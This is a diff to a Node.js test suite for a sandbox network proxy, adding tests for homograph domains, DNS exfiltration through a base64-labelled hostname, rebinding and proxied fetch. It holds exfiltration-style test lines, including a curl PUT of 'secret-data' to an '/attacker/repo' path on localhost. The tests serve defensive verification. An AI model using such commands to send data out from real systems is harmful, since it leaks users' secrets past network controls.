@@ -11,6 +11,7 @@ import https from 'node:https'
 import net from 'node:net'
 import os from 'node:os'
 import path from 'node:path'
+import url from 'node:url'
 import { after, before, describe, it } from 'node:test'
 
 import { config, gitIn, kinds, settingsFile, sandboxEnv, tempDir, which } from './helpers.mjs'
@@ -221,7 +222,7 @@ fetch('http://localhost:${tcp}/').then(() => say('fetch', 'FETCHED')).catch((e) 
 })
 
 /** Sends raw `CONNECT <target>` requests from inside the sandbox; maps each target to the proxy's status line. */
-async function probe(targets, network, extra = '') {
+async function probe(targets, network, extra = '', wrap = undefined) {
   const script = path.join(work, `probe-${Math.random().toString(36).slice(2)}.cjs`)
   fs.writeFileSync(
     script,
@@ -243,7 +244,7 @@ const port = +(process.env.PROBE_PORT || 3128)
 })()
 `,
   )
-  const r = await run(`${extra} node ${script}`, network)
+  const r = await run(`${extra} node ${script}`, network, { wrap })
   const lines = r.stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l))
   assert.equal(lines.length, targets.length, r.stdout + r.stderr)
   return { status: Object.fromEntries(lines), stderr: r.stderr }
@@ -273,7 +274,7 @@ describe('attacks on the domain policy (attacks.md 5c)', () => {
         `deep.sub.wild.example:443`,
         `BAD.wild.example.:443`,
       ],
-      { allowedDomains: ['localhost', 'exact.example', '*.wild.example'], deniedDomains: ['bad.wild.example'] },
+      { allowedDomains: ['localhost', 'Exact.EXAMPLE', '*.Wild.example'], deniedDomains: ['bad.wild.example'] },
     )
     const denied = 'HTTP/1.1 403 host is not on the allow list'
     assert.equal(status['exact.example.evil.test:443'], denied)
@@ -288,12 +289,16 @@ describe('attacks on the domain policy (attacks.md 5c)', () => {
     assert.equal(status['BAD.wild.example.:443'], 'HTTP/1.1 403 host is on the deny list')
   })
 
-  it('punycode and Unicode spell one name; control and invisible characters are refused', async () => {
+  it('punycode and Unicode spell one name; homographs, control and invisible characters are refused', async () => {
+    // "gіthub.example" with a Cyrillic і, as a client would send it (punycode).
+    const homograph = `${url.domainToASCII('g\u0456thub.example')}:443`
     const { status } = await probe(
-      ['xn--bcher-kva.example:443', 'BÜCHER.example:443', 'bu\u200bcher.example:443', 'a\u0000b.example:443', 'a%2eb.example:443'],
-      { allowedDomains: ['localhost'], deniedDomains: ['bücher.example'] },
+      ['xn--bcher-kva.example:443', 'BÜCHER.example:443', 'bu\u200bcher.example:443', 'a\u0000b.example:443', 'a%2eb.example:443', homograph],
+      { allowedDomains: ['localhost', 'github.example'], deniedDomains: ['bücher.example'] },
     )
     assert.equal(status['xn--bcher-kva.example:443'], 'HTTP/1.1 403 host is on the deny list')
+    assert.match(homograph, /^xn--/)
+    assert.equal(status[homograph], 'HTTP/1.1 403 host is not on the allow list')
     for (const t of ['BÜCHER.example:443', 'bu\u200bcher.example:443', 'a\u0000b.example:443', 'a%2eb.example:443']) {
       assert.match(status[t], /^HTTP\/1\.1 (400|403)/, t)
     }
@@ -338,7 +343,55 @@ net.createServer((c) => { const p = net.connect(3128, '127.0.0.1'); c.pipe(p); p
     assert.match(r.stdout, /^Connection blocked by network allowlist: host is not on the allow list\n\nhello \/ok\n$/, r.stderr)
   })
 
+  it('filters hosts, not paths or methods: anything may be sent to an allowed host (a documented limit)', async () => {
+    const received = []
+    const port = await listen(http.createServer((req, res) => {
+      let body = ''
+      req.on('data', (d) => (body += d))
+      req.on('end', () => (received.push(`${req.method} ${req.url} ${body}`), res.end('stored\n')))
+    }))
+    const r = await run(`${viaProxy} curl -sS -X PUT --data-binary secret-data http://localhost:${port}/attacker/repo`, { allowedDomains: [`localhost:${port}`] })
+    assert.equal(r.stdout, 'stored\n', r.stderr)
+    assert.deepEqual(received, ['PUT /attacker/repo secret-data'])
+  })
+
   const root = process.getuid?.() === 0 && which('unshare')
+  it('srt never resolves a name it refuses (no DNS exfiltration through the proxy)', { skip: !root && 'needs root and unshare for a private resolv.conf' }, async (t) => {
+    // A DNS server of our own on 127.0.0.1:53, named in a resolv.conf that only srt sees.
+    const queries = []
+    const dns = dgram.createSocket('udp4')
+    dns.on('message', (msg, rinfo) => {
+      // The query name: length-prefixed labels from byte 12.
+      const labels = []
+      for (let i = 12; msg[i]; i += msg[i] + 1) labels.push(msg.subarray(i + 1, i + 1 + msg[i]).toString())
+      queries.push(labels.join('.'))
+      // Answer "no such name", echoing the question.
+      const answer = Buffer.from(msg)
+      answer[2] = 0x81
+      answer[3] = 0x83
+      dns.send(answer, rinfo.port, rinfo.address)
+    })
+    try {
+      await new Promise((resolve, reject) => (dns.once('error', reject), dns.bind(53, '127.0.0.1', resolve)))
+    } catch (e) {
+      return t.skip(`cannot listen on 127.0.0.1:53 (${e.code})`)
+    }
+    after(() => dns.close())
+    const resolv = path.join(work, 'resolv.conf')
+    fs.writeFileSync(resolv, 'nameserver 127.0.0.1\noptions attempts:1 timeout:1\n')
+    const { status } = await probe(
+      ['c2VjcmV0.exfil.example:443', 'allowed.dns.example:443'],
+      { allowedDomains: ['*.dns.example'] },
+      '',
+      (cmd, argv) => ['unshare', ['-m', 'sh', '-c', `mount --bind ${resolv} /etc/resolv.conf && exec "$0" "$@"`, cmd, ...argv]],
+    )
+    assert.equal(status['c2VjcmV0.exfil.example:443'], 'HTTP/1.1 403 host is not on the allow list')
+    assert.equal(status['allowed.dns.example:443'], 'HTTP/1.1 502 Bad Gateway')
+    assert.ok(queries.some((q) => q === 'allowed.dns.example'), `the allowed name was looked up: ${queries}`)
+    assert.ok(!queries.some((q) => q.includes('exfil')), `the refused name never was: ${queries}`)
+  })
+
+
   it('an allowed name that resolves to loopback, metadata or this host is refused (rebinding)', { skip: !root && 'needs root and unshare for a private /etc/hosts' }, async () => {
     const own = Object.values(os.networkInterfaces()).flat().find((a) => a && !a.internal && a.family === 'IPv4')?.address
     const hosts = path.join(work, 'hosts')
@@ -476,4 +529,31 @@ it("the command keeps the descriptor limit srt was given (srt raises only its ow
   const wrap = (cmd, argv) => ['sh', ['-c', 'ulimit -Sn 1000 && exec "$0" "$@"', cmd, ...argv]]
   const r = await run('ulimit -Sn', { allowedDomains: ['localhost'] }, { wrap })
   assert.equal(r.stdout, '1000\n', r.stderr)
+})
+
+it("node's built-in fetch through the proxy, given a proxy dispatcher (undici's ProxyAgent)", async () => {
+  const s = await webServers('fetched')
+  const undici = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'node_modules', 'undici')
+  const script = path.join(work, 'fetch.cjs')
+  fs.writeFileSync(
+    script,
+    `const { ProxyAgent, setGlobalDispatcher } = require(${JSON.stringify(undici)})
+// Node 20's fetch reads no proxy variables; this is how a program points it at one.
+setGlobalDispatcher(new ProxyAgent(process.env.HTTPS_PROXY))
+;(async () => {
+  for (const url of ['http://localhost:${s.plain}/plain', 'https://localhost:${s.secure}/tls', 'https://denied.example/']) {
+    try {
+      const r = await fetch(url)
+      console.log(r.status, (await r.text()).trim())
+    } catch (e) {
+      console.log('failed:', e.cause?.message || e.message)
+    }
+  }
+})()
+`,
+  )
+  const r = await run(`NODE_EXTRA_CA_CERTS=${tls.ca} node ${script}`, { allowedDomains: ['localhost'] })
+  assert.match(r.stdout, /^200 fetched \/plain\n200 fetched \/tls\nfailed: /, r.stdout + r.stderr)
+  // undici reports a refused tunnel without the proxy's status text; srt's summary names the reason.
+  assert.match(r.stderr, /denied\.example:443 \(host is not on the allow list\)/)
 })
